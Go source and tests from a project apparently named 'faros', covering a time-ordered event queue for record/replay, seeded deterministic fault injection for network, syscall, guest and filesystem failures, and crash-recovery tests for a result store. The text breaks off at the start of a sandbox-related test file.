	copy(q.events, events)
	sort.SliceStable(q.events, func(i, j int) bool { return q.events[i].At < q.events[j].At })
	return q
}

// Push schedules an event, keeping time order (stable for equal times).
func (q *Queue) Push(ev Event) {
	i := sort.Search(len(q.events), func(i int) bool { return q.events[i].At > ev.At })
	q.events = append(q.events, Event{})
	copy(q.events[i+1:], q.events[i:])
	q.events[i] = ev
}

// PopDue removes and returns the earliest event with At <= now, if any.
func (q *Queue) PopDue(now uint64) (Event, bool) {
	if len(q.events) == 0 || q.events[0].At > now {
		return Event{}, false
	}
	ev := q.events[0]
	q.events = q.events[1:]
	return ev, true
}

// NextAt returns the timestamp of the earliest pending event.
func (q *Queue) NextAt() (uint64, bool) {
	if len(q.events) == 0 {
		return 0, false
	}
	return q.events[0].At, true
}

// Len returns the number of pending events.
func (q *Queue) Len() int { return len(q.events) }

// Recorder accumulates delivered events into a log.
type Recorder struct {
	log Log
}

// NewRecorder starts a recording for the named scenario.
func NewRecorder(scenario string) *Recorder {
	return &Recorder{log: Log{Scenario: scenario}}
}

// Delivered records an event at its delivery time. Data is copied so later
// mutation of the buffer cannot corrupt the log.
func (r *Recorder) Delivered(ev Event) {
	ev.Data = append([]byte(nil), ev.Data...)
	r.log.Events = append(r.log.Events, ev)
}

// Finish stamps the final instruction count and returns the log.
func (r *Recorder) Finish(finalInstr uint64) *Log {
	r.log.FinalInstr = finalInstr
	out := r.log
	return &out
}

// DivergenceError reports that a replay did not reproduce its recording:
// the guest consumed a different event stream or retired a different
// number of instructions than the log promises. It is a typed error so
// callers can distinguish a desynced replay (bad log, wrong spec, altered
// sample) from an ordinary run failure.
type DivergenceError struct {
	// Scenario is the replayed scenario name.
	Scenario string
	// At is the instruction count when the divergence was detected.
	At uint64
	// Reason describes the mismatch.
	Reason string
}

func (e *DivergenceError) Error() string {
	return fmt.Sprintf("record: replay of %q diverged at instruction %d: %s", e.Scenario, e.At, e.Reason)
}

package record

import (
	"testing"
	"testing/quick"
)

func TestQueueOrdering(t *testing.T) {
	q := NewQueue(nil)
	q.Push(Event{At: 30, Kind: EvKeyboard})
	q.Push(Event{At: 10, Kind: EvPacketIn, Flow: 1})
	q.Push(Event{At: 20, Kind: EvAudio})
	if q.Len() != 3 {
		t.Fatalf("len = %d", q.Len())
	}
	at, ok := q.NextAt()
	if !ok || at != 10 {
		t.Fatalf("NextAt = %d, %v", at, ok)
	}
	ev, ok := q.PopDue(5)
	if ok {
		t.Fatalf("popped early: %+v", ev)
	}
	ev, ok = q.PopDue(25)
	if !ok || ev.At != 10 {
		t.Fatalf("pop = %+v", ev)
	}
	ev, ok = q.PopDue(25)
	if !ok || ev.At != 20 {
		t.Fatalf("pop = %+v", ev)
	}
	if _, ok := q.PopDue(25); ok {
		t.Fatal("popped future event")
	}
}

func TestQueueStableForEqualTimes(t *testing.T) {
	q := NewQueue(nil)
	q.Push(Event{At: 5, Flow: 1})
	q.Push(Event{At: 5, Flow: 2})
	q.Push(Event{At: 5, Flow: 3})
	for want := uint32(1); want <= 3; want++ {
		ev, ok := q.PopDue(5)
		if !ok || ev.Flow != want {
			t.Fatalf("pop = %+v, want flow %d", ev, want)
		}
	}
}

func TestNewQueueSortsSeed(t *testing.T) {
	q := NewQueue([]Event{{At: 9}, {At: 1}, {At: 5}})
	var got []uint64
	for {
		ev, ok := q.PopDue(100)
		if !ok {
			break
		}
		got = append(got, ev.At)
	}
	want := []uint64{1, 5, 9}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("order = %v", got)
		}
	}
}

func TestRecorderCopiesEventData(t *testing.T) {
	r := NewRecorder("test-scenario")
	buf := []byte{1, 2, 3}
	r.Delivered(Event{At: 100, Kind: EvPacketIn, Flow: 7, Data: buf})
	buf[0] = 99 // recorder must have copied
	r.Delivered(Event{At: 200, Kind: EvKeyboard, Data: []byte("abc")})
	log := r.Finish(12345)
	if log.Scenario != "test-scenario" || log.FinalInstr != 12345 || len(log.Events) != 2 {
		t.Fatalf("log = %+v", log)
	}
	if log.Events[0].Data[0] != 1 {
		t.Error("event data aliased, not copied")
	}
}

func TestQueuePopNeverLosesEvents(t *testing.T) {
	f := func(times []uint16) bool {
		q := NewQueue(nil)
		for _, at := range times {
			q.Push(Event{At: uint64(at)})
		}
		var last uint64
		count := 0
		for {
			ev, ok := q.PopDue(1 << 20)
			if !ok {
				break
			}
			if ev.At < last {
				return false // out of order
			}
			last = ev.At
			count++
		}
		return count == len(times)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func TestEventKindStrings(t *testing.T) {
	kinds := []EventKind{EvPacketIn, EvKeyboard, EvAudio, EvFlowClose, EvShutdown, EventKind(99)}
	for _, k := range kinds {
		if k.String() == "" {
			t.Errorf("empty string for %d", k)
		}
	}
}

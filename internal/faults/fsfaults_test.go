package faults

import (
	"bytes"
	"errors"
	"fmt"
	"testing"

	"faros/internal/store"
)

func fsKey(i int) string { return fmt.Sprintf("%064x", i+1) }

// TestFSInjectorDeterminism: same plan, same operation sequence, same
// faults.
func TestFSInjectorDeterminism(t *testing.T) {
	plan := FSPlan{Seed: 0xFA405, TornWrite: 0.3, ShortWrite: 0.2, BitFlip: 0.2, SyncErr: 0.1, RenameErr: 0.1}
	run := func(dir string) (FSStats, []string) {
		inj := NewFSInjector(plan, nil)
		s, err := store.Open(store.Config{Dir: dir, FS: inj})
		if err != nil {
			t.Fatal(err)
		}
		var outcomes []string
		for i := 0; i < 40; i++ {
			err := s.Put(fsKey(i), bytes.Repeat([]byte("x"), 64+i))
			outcomes = append(outcomes, fmt.Sprintf("%d:%v", i, err != nil))
		}
		return inj.Stats(), outcomes
	}
	st1, out1 := run(t.TempDir())
	st2, out2 := run(t.TempDir())
	if st1 != st2 {
		t.Fatalf("stats diverged: %+v vs %+v", st1, st2)
	}
	if st1.Total() == 0 {
		t.Fatal("no faults injected at these rates")
	}
	for i := range out1 {
		if out1[i] != out2[i] {
			t.Fatalf("outcome %d diverged: %s vs %s", i, out1[i], out2[i])
		}
	}
}

// TestSyncAndRenameFaultsFailPutCleanly: EIO on fsync or rename makes Put
// fail without leaving a servable partial entry, and the store reports
// the failure through Err until a clean Put.
func TestSyncAndRenameFaultsFailPutCleanly(t *testing.T) {
	for name, plan := range map[string]FSPlan{
		"sync":   {SyncErr: 1},
		"rename": {RenameErr: 1},
		"short":  {ShortWrite: 1},
	} {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			clean, err := store.Open(store.Config{Dir: dir})
			if err != nil {
				t.Fatal(err)
			}
			if err := clean.Put(fsKey(0), []byte("intact")); err != nil {
				t.Fatal(err)
			}

			inj := NewFSInjector(plan, nil)
			s, err := store.Open(store.Config{Dir: dir, FS: inj})
			if err != nil {
				t.Fatal(err)
			}
			if err := s.Put(fsKey(1), []byte("doomed")); err == nil {
				t.Fatal("Put succeeded under injected fault")
			} else if name != "short" && !errors.Is(err, ErrInjectedIO) {
				t.Fatalf("Put error %v does not wrap ErrInjectedIO", err)
			}
			if s.Err() == nil {
				t.Fatal("store.Err() nil after failed Put")
			}
			if _, ok := s.Get(fsKey(1)); ok {
				t.Fatal("failed Put left a servable entry")
			}
			if got, ok := s.Get(fsKey(0)); !ok || string(got) != "intact" {
				t.Fatal("pre-existing entry lost after failed Put")
			}
			if inj.Stats().Total() == 0 {
				t.Fatal("no fault recorded")
			}

			// Reopen clean: the failed write left nothing corrupt behind.
			s2, err := store.Open(store.Config{Dir: dir})
			if err != nil {
				t.Fatal(err)
			}
			if st := s2.Stats(); st.CorruptQuarantined != 0 {
				t.Fatalf("failed Put left %d corrupt entries for recovery", st.CorruptQuarantined)
			}
			if _, ok := s2.Get(fsKey(0)); !ok {
				t.Fatal("intact entry lost across reopen")
			}
		})
	}
}

// TestBitFlipCaughtAtRead: a bit flip in flight lands on disk, but the
// checksum catches it at read time and the entry is quarantined, never
// served.
func TestBitFlipCaughtAtRead(t *testing.T) {
	dir := t.TempDir()
	inj := NewFSInjector(FSPlan{BitFlip: 1}, nil)
	s, err := store.Open(store.Config{Dir: dir, FS: inj})
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Put(fsKey(0), []byte("payload-to-rot")); err != nil {
		t.Fatalf("Put: %v (bit flips are silent)", err)
	}
	if _, ok := s.Get(fsKey(0)); ok {
		t.Fatal("bit-flipped entry served")
	}
	if st := s.Stats(); st.CorruptQuarantined != 1 {
		t.Fatalf("CorruptQuarantined = %d, want 1", st.CorruptQuarantined)
	}
	if inj.Stats().BitFlips == 0 {
		t.Fatal("no bit flip recorded")
	}
}

// TestCrashMidWriteRecovery is the kill-farosd-mid-write chaos test at the
// store level: a batch of entries lands cleanly, then the process "dies"
// mid-write — torn writes persist only a prefix of later entries while
// reporting success, exactly what kill -9 between write and rename-visible
// leaves behind. A fresh store over the same directory (the restart) must
// quarantine every torn entry and serve every intact one bit-identical.
func TestCrashMidWriteRecovery(t *testing.T) {
	dir := t.TempDir()
	clean, err := store.Open(store.Config{Dir: dir})
	if err != nil {
		t.Fatal(err)
	}
	intact := map[string][]byte{}
	for i := 0; i < 6; i++ {
		p := []byte(fmt.Sprintf(`{"scenario":"s%d","flagged":%v}`, i, i%2 == 0))
		intact[fsKey(i)] = p
		if err := clean.Put(fsKey(i), p); err != nil {
			t.Fatal(err)
		}
	}

	// The "crash": every write from here on is torn.
	inj := NewFSInjector(FSPlan{Seed: 7, TornWrite: 1}, nil)
	dying, err := store.Open(store.Config{Dir: dir, FS: inj})
	if err != nil {
		t.Fatal(err)
	}
	for i := 6; i < 10; i++ {
		// Torn writes are silent: Put believes it succeeded.
		if err := dying.Put(fsKey(i), bytes.Repeat([]byte("y"), 200)); err != nil {
			t.Fatalf("torn Put reported failure: %v", err)
		}
	}
	if inj.Stats().TornWrites != 4 {
		t.Fatalf("TornWrites = %d, want 4", inj.Stats().TornWrites)
	}

	// The restart: recovery must separate intact from torn exactly.
	recovered, err := store.Open(store.Config{Dir: dir})
	if err != nil {
		t.Fatal(err)
	}
	st := recovered.Stats()
	if st.CorruptQuarantined != 4 {
		t.Fatalf("recovery quarantined %d entries, want 4", st.CorruptQuarantined)
	}
	if recovered.Len() != 6 {
		t.Fatalf("recovery kept %d entries, want 6", recovered.Len())
	}
	for k, want := range intact {
		got, ok := recovered.Get(k)
		if !ok {
			t.Fatalf("intact entry %s lost in recovery", k)
		}
		if !bytes.Equal(got, want) {
			t.Fatalf("intact entry %s not bit-identical after recovery", k)
		}
	}
	for i := 6; i < 10; i++ {
		if _, ok := recovered.Get(fsKey(i)); ok {
			t.Fatalf("torn entry %s served after recovery", fsKey(i))
		}
	}
}

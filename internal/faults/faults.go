// Package faults implements seeded, deterministic fault injection for the
// whole-system pipeline: network faults (packet loss, duplication,
// reordering, byte corruption, short reads), transient syscall failures,
// and guest-level faults (flipped code bytes, unmapped-page probes).
//
// Determinism is the design constraint everything else bends around: the
// record/replay workflow re-executes the guest bit-for-bit, so every fault
// decision must be reproducible from the plan's seed alone. Each fault
// class draws from its own independent splitmix64 stream — network draws
// happen only during live runs (endpoints are disabled in replay), while
// syscall and guest draws happen identically in both passes because the
// guest instruction stream is identical. Mixing the classes into one
// stream would let a live-only draw shift every later decision and desync
// the replay.
package faults

import "fmt"

// stream is a splitmix64 PRNG. It is tiny, fast, and — unlike math/rand —
// trivially forkable into independent sequences from one seed.
type stream struct{ state uint64 }

func (s *stream) next() uint64 {
	s.state += 0x9E3779B97F4A7C15
	z := s.state
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9
	z = (z ^ (z >> 27)) * 0x94D049BB133111EB
	return z ^ (z >> 31)
}

// float returns a uniform draw in [0, 1).
func (s *stream) float() float64 { return float64(s.next()>>11) / (1 << 53) }

// NetPlan configures wire-level faults. Probabilities are per logical
// packet (or per read for ShortRead).
type NetPlan struct {
	// Drop is the chance a transmission is lost; the sender retransmits
	// after an RTO, so payloads are delayed, never destroyed.
	Drop float64
	// Corrupt is the chance a transmission arrives with flipped bytes; the
	// checksum catches it at delivery and a clean retransmission follows.
	Corrupt float64
	// Duplicate is the chance the clean copy arrives twice.
	Duplicate float64
	// Reorder is the chance the clean copy picks up extra jitter, letting a
	// later packet overtake it (per-flow sequencing reassembles).
	Reorder float64
	// ShortRead is the chance a recv completes with fewer bytes than asked,
	// forcing callers to loop.
	ShortRead float64
}

// SyscallPlan configures transient syscall failures for the retryable I/O
// calls (NtReadFile, NtWriteFile, NtRecv).
type SyscallPlan struct {
	// FailRate is the per-call chance of a StatusRetry return.
	FailRate float64
	// MaxConsecutive caps back-to-back failures so bounded guest retry
	// loops always eventually succeed (default 2).
	MaxConsecutive int
}

// GuestPlan configures guest-level faults, applied per scheduler quantum
// to processes named in Targets.
type GuestPlan struct {
	// FlipRate is the per-quantum chance the next opcode byte is flipped to
	// an undecodable value (corrupted code).
	FlipRate float64
	// ProbeRate is the per-quantum chance EIP is pointed at an unmapped
	// page (wild jump).
	ProbeRate float64
	// Targets names the processes eligible for guest faults; nil means no
	// process is ever faulted.
	Targets []string
}

// Plan is a complete, seeded fault-injection configuration. The zero value
// injects nothing.
type Plan struct {
	Seed    uint64
	Net     NetPlan
	Syscall SyscallPlan
	Guest   GuestPlan
}

// NewInjector builds a fresh injector from the plan; every injector built
// from the same plan makes the same decisions in the same order. A nil
// plan yields a nil injector, which all Injector methods accept.
func (p *Plan) NewInjector() *Injector {
	if p == nil {
		return nil
	}
	return &Injector{
		plan:  *p,
		net:   stream{state: p.Seed ^ 0xAE57_0000_0000_0001},
		sys:   stream{state: p.Seed ^ 0xAE57_0000_0000_0002},
		guest: stream{state: p.Seed ^ 0xAE57_0000_0000_0003},
		short: stream{state: p.Seed ^ 0xAE57_0000_0000_0004},
	}
}

// Stats counts injected faults, for reports and determinism checks.
type Stats struct {
	PacketsDropped    int
	PacketsCorrupted  int
	PacketsDuplicated int
	PacketsReordered  int
	SyscallFaults     int
	ShortReads        int
	CodeFlips         int
	UnmappedProbes    int
}

// Total returns the number of faults injected across all classes.
func (s Stats) Total() int {
	return s.PacketsDropped + s.PacketsCorrupted + s.PacketsDuplicated +
		s.PacketsReordered + s.SyscallFaults + s.ShortReads +
		s.CodeFlips + s.UnmappedProbes
}

// String renders a compact counter line.
func (s Stats) String() string {
	return fmt.Sprintf("drop=%d corrupt=%d dup=%d reorder=%d syscall=%d short=%d flip=%d probe=%d",
		s.PacketsDropped, s.PacketsCorrupted, s.PacketsDuplicated, s.PacketsReordered,
		s.SyscallFaults, s.ShortReads, s.CodeFlips, s.UnmappedProbes)
}

// WireCopy is one transmission of a logical packet as it appears on the
// wire: possibly corrupted, possibly delayed behind retransmissions.
type WireCopy struct {
	// Delay is added to the endpoint's own delivery delay.
	Delay uint64
	// Data is the payload bytes on the wire.
	Data []byte
	// Corrupt marks a copy whose bytes were flipped (its checksum will not
	// verify at delivery).
	Corrupt bool
}

// GuestFaultKind selects a guest-level fault.
type GuestFaultKind int

// Guest fault kinds.
const (
	GuestNone GuestFaultKind = iota
	// GuestFlip corrupts the opcode byte under EIP.
	GuestFlip
	// GuestProbe points EIP at an unmapped page.
	GuestProbe
)

// Retransmission timing, in guest instructions. The RTO is kept well under
// the scripted endpoints' inter-reply spacing so a retransmitted payload
// still lands before the flow closes.
const (
	rto          = 120
	reorderBase  = 40
	reorderSpan  = 120
	dupExtra     = 30
	maxBadCopies = 3
)

// Injector makes fault decisions for one run. All methods accept a nil
// receiver (no faults), so consumers need no guards.
type Injector struct {
	plan        Plan
	net         stream
	sys         stream
	guest       stream
	short       stream
	consecutive int
	stats       Stats
}

// Stats returns the fault counters so far.
func (inj *Injector) Stats() Stats {
	if inj == nil {
		return Stats{}
	}
	return inj.stats
}

// WireCopies expands one logical packet into the transmissions that hit
// the wire: zero or more dropped/corrupted attempts, then exactly one
// clean copy (possibly jittered or duplicated). The clean-copy guarantee
// is what makes chaos runs converge — payloads are delayed and mangled in
// transit but never destroyed end-to-end, exactly like TCP over a lossy
// link.
func (inj *Injector) WireCopies(data []byte) []WireCopy {
	if inj == nil {
		return []WireCopy{{Data: data}}
	}
	var out []WireCopy
	var delay uint64
	for i := 0; i < maxBadCopies; i++ {
		r := inj.net.float()
		if r < inj.plan.Net.Drop {
			inj.stats.PacketsDropped++
			delay += rto
			continue
		}
		if r < inj.plan.Net.Drop+inj.plan.Net.Corrupt {
			inj.stats.PacketsCorrupted++
			out = append(out, WireCopy{Delay: delay, Data: inj.corrupt(data), Corrupt: true})
			delay += rto
			continue
		}
		break
	}
	clean := WireCopy{Delay: delay, Data: data}
	if inj.net.float() < inj.plan.Net.Reorder {
		inj.stats.PacketsReordered++
		clean.Delay += reorderBase + inj.net.next()%reorderSpan
	}
	out = append(out, clean)
	if inj.net.float() < inj.plan.Net.Duplicate {
		inj.stats.PacketsDuplicated++
		out = append(out, WireCopy{Delay: clean.Delay + dupExtra, Data: data})
	}
	return out
}

// corrupt returns a copy of data with 1–3 bytes xor-flipped (never by
// zero, so the copy always differs from the original).
func (inj *Injector) corrupt(data []byte) []byte {
	bad := append([]byte(nil), data...)
	if len(bad) == 0 {
		return bad
	}
	flips := 1 + int(inj.net.next()%3)
	for i := 0; i < flips; i++ {
		pos := int(inj.net.next() % uint64(len(bad)))
		bad[pos] ^= byte(1 + inj.net.next()%255)
	}
	return bad
}

// FaultSyscall decides whether the current retryable syscall fails
// transiently. Consecutive failures are capped so guest retry loops with
// bounded attempts always make progress.
func (inj *Injector) FaultSyscall() bool {
	if inj == nil || inj.plan.Syscall.FailRate <= 0 {
		return false
	}
	max := inj.plan.Syscall.MaxConsecutive
	if max <= 0 {
		max = 2
	}
	fail := inj.sys.float() < inj.plan.Syscall.FailRate && inj.consecutive < max
	if fail {
		inj.consecutive++
		inj.stats.SyscallFaults++
	} else {
		inj.consecutive = 0
	}
	return fail
}

// CapRead possibly shortens a recv transfer, modeling partial reads. The
// cap is at least 1 byte so capped reads still make progress.
func (inj *Injector) CapRead(max int) int {
	if inj == nil || inj.plan.Net.ShortRead <= 0 || max <= 1 {
		return max
	}
	if inj.short.float() < inj.plan.Net.ShortRead {
		n := 1 + int(inj.short.next()%uint64(max))
		if n < max {
			inj.stats.ShortReads++
			return n
		}
	}
	return max
}

// GuestFault draws a guest-level fault decision for one scheduler quantum
// of the named process. Processes outside the plan's target list are never
// faulted (and consume no draws, so adding bystanders does not shift the
// stream).
func (inj *Injector) GuestFault(procName string) GuestFaultKind {
	if inj == nil {
		return GuestNone
	}
	target := false
	for _, t := range inj.plan.Guest.Targets {
		if t == procName {
			target = true
			break
		}
	}
	if !target {
		return GuestNone
	}
	r := inj.guest.float()
	switch {
	case r < inj.plan.Guest.FlipRate:
		inj.stats.CodeFlips++
		return GuestFlip
	case r < inj.plan.Guest.FlipRate+inj.plan.Guest.ProbeRate:
		inj.stats.UnmappedProbes++
		return GuestProbe
	}
	return GuestNone
}

// Filesystem fault injection for the persistent result store. The store
// writes entries atomically (temp file → write → fsync → rename → dir
// fsync); each step is a distinct way real storage fails, and FSInjector
// makes a seeded decision at each one:
//
//   - torn write: only a prefix of the bytes reaches the disk, but the
//     write reports full success — what a kill -9 (or power loss) between
//     write and fsync looks like after the rename still lands.
//   - short write: the write returns early with io.ErrShortWrite — a full
//     disk or interrupted syscall the caller can see.
//   - bit flip: one byte is corrupted in flight — firmware/media rot the
//     checksum must catch at read time.
//   - fsync/rename/dirsync EIO: the durability syscalls themselves fail.
//
// Same seed, same operation sequence, same faults — the chaos tests are
// reproducible from the plan alone, like every other class in this
// package.
package faults

import (
	"errors"
	"io"
	"io/fs"
	"sync"

	"faros/internal/store"
)

// ErrInjectedIO is the error injected for fsync/rename/dirsync failures.
var ErrInjectedIO = errors.New("faults: injected I/O error")

// FSPlan configures filesystem faults. Probabilities are per operation
// (per Write call, per Sync call, per Rename call). The zero value injects
// nothing.
type FSPlan struct {
	Seed uint64
	// TornWrite is the chance a Write persists only a prefix of its bytes
	// while reporting success. The damage is silent until the entry is
	// read back and fails verification.
	TornWrite float64
	// ShortWrite is the chance a Write returns n < len(p) with
	// io.ErrShortWrite.
	ShortWrite float64
	// BitFlip is the chance a Write lands with one byte corrupted.
	BitFlip float64
	// SyncErr is the chance a file Sync fails with ErrInjectedIO.
	SyncErr float64
	// RenameErr is the chance a Rename fails with ErrInjectedIO.
	RenameErr float64
	// DirSyncErr is the chance a directory sync fails with ErrInjectedIO.
	DirSyncErr float64
}

// FSStats counts injected filesystem faults.
type FSStats struct {
	TornWrites  int
	ShortWrites int
	BitFlips    int
	SyncErrs    int
	RenameErrs  int
	DirSyncErrs int
}

// Total returns the number of filesystem faults injected.
func (s FSStats) Total() int {
	return s.TornWrites + s.ShortWrites + s.BitFlips + s.SyncErrs + s.RenameErrs + s.DirSyncErrs
}

// FSInjector implements store.FS over an inner filesystem, injecting
// seeded faults on the write path. Reads and directory scans pass through
// untouched — recovery code must see the disk as it really is.
type FSInjector struct {
	inner store.FS
	plan  FSPlan

	mu    sync.Mutex
	st    stream
	stats FSStats
}

// NewFSInjector wraps inner (nil = the real OS) with the plan's faults.
func NewFSInjector(plan FSPlan, inner store.FS) *FSInjector {
	if inner == nil {
		inner = store.OSFS{}
	}
	return &FSInjector{
		inner: inner,
		plan:  plan,
		st:    stream{state: plan.Seed ^ 0xAE57_0000_0000_0005},
	}
}

// Stats returns the fault counters so far.
func (f *FSInjector) Stats() FSStats {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.stats
}

// MkdirAll implements store.FS (pass-through).
func (f *FSInjector) MkdirAll(path string) error { return f.inner.MkdirAll(path) }

// ReadDir implements store.FS (pass-through).
func (f *FSInjector) ReadDir(path string) ([]fs.DirEntry, error) { return f.inner.ReadDir(path) }

// ReadFile implements store.FS (pass-through).
func (f *FSInjector) ReadFile(path string) ([]byte, error) { return f.inner.ReadFile(path) }

// Remove implements store.FS (pass-through).
func (f *FSInjector) Remove(path string) error { return f.inner.Remove(path) }

// Rename implements store.FS, possibly failing with ErrInjectedIO.
func (f *FSInjector) Rename(oldpath, newpath string) error {
	f.mu.Lock()
	fail := f.st.float() < f.plan.RenameErr
	if fail {
		f.stats.RenameErrs++
	}
	f.mu.Unlock()
	if fail {
		return ErrInjectedIO
	}
	return f.inner.Rename(oldpath, newpath)
}

// SyncDir implements store.FS, possibly failing with ErrInjectedIO.
func (f *FSInjector) SyncDir(path string) error {
	f.mu.Lock()
	fail := f.st.float() < f.plan.DirSyncErr
	if fail {
		f.stats.DirSyncErrs++
	}
	f.mu.Unlock()
	if fail {
		return ErrInjectedIO
	}
	return f.inner.SyncDir(path)
}

// CreateTemp implements store.FS; the returned file injects write-path
// faults.
func (f *FSInjector) CreateTemp(dir, pattern string) (store.File, error) {
	file, err := f.inner.CreateTemp(dir, pattern)
	if err != nil {
		return nil, err
	}
	return &faultFile{inj: f, inner: file}, nil
}

// faultFile wraps one temp file with write/sync fault decisions.
type faultFile struct {
	inj   *FSInjector
	inner store.File
}

// Write makes one fault decision per call.
func (w *faultFile) Write(p []byte) (int, error) {
	inj := w.inj
	inj.mu.Lock()
	r := inj.st.float()
	plan := inj.plan
	switch {
	case r < plan.TornWrite:
		inj.stats.TornWrites++
		keep := 0
		if len(p) > 1 {
			keep = 1 + int(inj.st.next()%uint64(len(p)-1))
		}
		inj.mu.Unlock()
		// Persist only a prefix but report complete success: the caller
		// believes the entry landed; verification at read time must not.
		if _, err := w.inner.Write(p[:keep]); err != nil {
			return 0, err
		}
		return len(p), nil
	case r < plan.TornWrite+plan.ShortWrite:
		inj.stats.ShortWrites++
		keep := 0
		if len(p) > 1 {
			keep = 1 + int(inj.st.next()%uint64(len(p)-1))
		}
		inj.mu.Unlock()
		n, err := w.inner.Write(p[:keep])
		if err != nil {
			return n, err
		}
		return n, io.ErrShortWrite
	case r < plan.TornWrite+plan.ShortWrite+plan.BitFlip:
		inj.stats.BitFlips++
		bad := append([]byte(nil), p...)
		if len(bad) > 0 {
			pos := int(inj.st.next() % uint64(len(bad)))
			bad[pos] ^= byte(1 + inj.st.next()%255)
		}
		inj.mu.Unlock()
		n, err := w.inner.Write(bad)
		return n, err
	}
	inj.mu.Unlock()
	return w.inner.Write(p)
}

// Sync possibly fails with ErrInjectedIO (the data is then not durable,
// but this simulation leaves the inner file as-is: the interesting case —
// data lost before rename — is covered by TornWrite).
func (w *faultFile) Sync() error {
	inj := w.inj
	inj.mu.Lock()
	fail := inj.st.float() < inj.plan.SyncErr
	if fail {
		inj.stats.SyncErrs++
	}
	inj.mu.Unlock()
	if fail {
		return ErrInjectedIO
	}
	return w.inner.Sync()
}

// Close passes through.
func (w *faultFile) Close() error { return w.inner.Close() }

// Name passes through.
func (w *faultFile) Name() string { return w.inner.Name() }

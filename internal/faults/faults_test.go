package faults

import (
	"bytes"
	"reflect"
	"testing"
)

func chaosPlan() Plan {
	return Plan{
		Seed:    0xFA405,
		Net:     NetPlan{Drop: 0.25, Corrupt: 0.2, Duplicate: 0.1, Reorder: 0.2, ShortRead: 0.25},
		Syscall: SyscallPlan{FailRate: 0.15, MaxConsecutive: 2},
		Guest:   GuestPlan{FlipRate: 0.05, ProbeRate: 0.05, Targets: []string{"bystander.exe"}},
	}
}

func TestNilInjectorIsInert(t *testing.T) {
	var inj *Injector
	copies := inj.WireCopies([]byte("abc"))
	if len(copies) != 1 || !bytes.Equal(copies[0].Data, []byte("abc")) || copies[0].Delay != 0 {
		t.Errorf("nil injector wire copies: %+v", copies)
	}
	if inj.FaultSyscall() {
		t.Error("nil injector faulted a syscall")
	}
	if inj.CapRead(64) != 64 {
		t.Error("nil injector capped a read")
	}
	if inj.GuestFault("x.exe") != GuestNone {
		t.Error("nil injector faulted a guest")
	}
	if inj.Stats().Total() != 0 {
		t.Error("nil injector has stats")
	}
	var nilPlan *Plan
	if nilPlan.NewInjector() != nil {
		t.Error("nil plan built an injector")
	}
}

func TestSameSeedSameDecisions(t *testing.T) {
	plan := chaosPlan()
	run := func() ([]WireCopy, []bool, []int, []GuestFaultKind, Stats) {
		inj := plan.NewInjector()
		var copies []WireCopy
		for i := 0; i < 50; i++ {
			copies = append(copies, inj.WireCopies([]byte{byte(i), 1, 2, 3})...)
		}
		var sys []bool
		for i := 0; i < 200; i++ {
			sys = append(sys, inj.FaultSyscall())
		}
		var caps []int
		for i := 0; i < 100; i++ {
			caps = append(caps, inj.CapRead(256))
		}
		var gf []GuestFaultKind
		for i := 0; i < 100; i++ {
			gf = append(gf, inj.GuestFault("bystander.exe"))
		}
		return copies, sys, caps, gf, inj.Stats()
	}
	c1, s1, r1, g1, st1 := run()
	c2, s2, r2, g2, st2 := run()
	if !reflect.DeepEqual(c1, c2) || !reflect.DeepEqual(s1, s2) ||
		!reflect.DeepEqual(r1, r2) || !reflect.DeepEqual(g1, g2) || st1 != st2 {
		t.Fatal("same seed produced different decisions")
	}
	if st1.Total() == 0 {
		t.Fatal("chaos plan injected nothing")
	}
}

func TestWireCopiesAlwaysDeliverClean(t *testing.T) {
	plan := chaosPlan()
	inj := plan.NewInjector()
	payload := []byte("payload payload payload")
	for i := 0; i < 500; i++ {
		copies := inj.WireCopies(payload)
		clean := 0
		for _, c := range copies {
			if c.Corrupt {
				if bytes.Equal(c.Data, payload) {
					t.Fatal("corrupt copy equals original")
				}
				continue
			}
			if !bytes.Equal(c.Data, payload) {
				t.Fatal("clean copy differs from original")
			}
			clean++
		}
		if clean < 1 {
			t.Fatal("no clean copy delivered")
		}
	}
}

func TestIndependentStreams(t *testing.T) {
	// Drawing from one class must not shift another class's sequence:
	// network draws happen only in live runs, so replay determinism depends
	// on this isolation.
	plan := chaosPlan()
	a, b := plan.NewInjector(), plan.NewInjector()
	for i := 0; i < 64; i++ {
		a.WireCopies([]byte{1, 2, 3}) // a draws net; b does not
	}
	for i := 0; i < 200; i++ {
		if a.FaultSyscall() != b.FaultSyscall() {
			t.Fatal("net draws shifted the syscall stream")
		}
	}
	for i := 0; i < 100; i++ {
		if a.CapRead(128) != b.CapRead(128) {
			t.Fatal("net draws shifted the short-read stream")
		}
		if a.GuestFault("bystander.exe") != b.GuestFault("bystander.exe") {
			t.Fatal("net draws shifted the guest stream")
		}
	}
}

func TestConsecutiveSyscallFailureCap(t *testing.T) {
	plan := Plan{Seed: 7, Syscall: SyscallPlan{FailRate: 1.0, MaxConsecutive: 2}}
	inj := plan.NewInjector()
	streak := 0
	for i := 0; i < 100; i++ {
		if inj.FaultSyscall() {
			streak++
			if streak > 2 {
				t.Fatal("consecutive failure cap not enforced")
			}
		} else {
			streak = 0
		}
	}
	if inj.Stats().SyscallFaults == 0 {
		t.Fatal("FailRate 1.0 never faulted")
	}
}

func TestCapReadBounds(t *testing.T) {
	plan := Plan{Seed: 9, Net: NetPlan{ShortRead: 1.0}}
	inj := plan.NewInjector()
	for i := 0; i < 200; i++ {
		n := inj.CapRead(64)
		if n < 1 || n > 64 {
			t.Fatalf("CapRead out of bounds: %d", n)
		}
	}
	if inj.CapRead(1) != 1 {
		t.Error("CapRead must pass 1-byte reads through")
	}
}

func TestGuestFaultTargeting(t *testing.T) {
	plan := Plan{Seed: 3, Guest: GuestPlan{FlipRate: 1.0, Targets: []string{"victim.exe"}}}
	inj := plan.NewInjector()
	if inj.GuestFault("benign.exe") != GuestNone {
		t.Error("non-target process faulted")
	}
	if inj.GuestFault("victim.exe") != GuestFlip {
		t.Error("target process not faulted at rate 1.0")
	}
}

package cuckoo

import (
	"strings"
	"testing"

	"faros/internal/guest"
	"faros/internal/guest/gnet"
	"faros/internal/isa"
	"faros/internal/peimg"
)

func install(t *testing.T, k *guest.Kernel, b *peimg.Builder, path string) {
	t.Helper()
	raw, err := b.BuildBytes()
	if err != nil {
		t.Fatal(err)
	}
